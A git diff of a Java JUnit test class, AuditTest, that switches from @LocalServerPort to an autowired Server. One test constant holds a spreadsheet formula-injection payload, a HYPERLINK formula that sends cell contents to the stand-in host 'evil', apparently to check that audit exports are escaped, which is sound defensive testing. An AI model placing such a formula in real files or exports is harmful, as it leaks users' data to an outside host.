@@ -20,7 +20,6 @@ import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
 import org.junit.jupiter.params.provider.ValueSource;
 import org.springframework.beans.factory.annotation.Autowired;
-import org.springframework.boot.test.web.server.LocalServerPort;
 import org.springframework.jdbc.core.simple.JdbcClient;
 import tools.jackson.databind.JsonNode;
 
@@ -29,19 +28,17 @@ import tools.jackson.databind.JsonNode;
 class AuditTest {
     private static final String FORMULA = "=HYPERLINK(\"http://evil/\"&A1,\"x\"),\r\nnext line";
 
-    @LocalServerPort
-    private int port;
+    @Autowired
+    private Server server;
 
     @Autowired
     private JdbcClient jdbc;
 
-    private Server server;
     private Server operator;
     private String room;
 
     @BeforeEach
     void eventfulRoom() {
-        server = new Server(port);
         operator = server.asOperator();
         room = "audited-" + UUID.randomUUID();
         Server ada = server.as("ada");
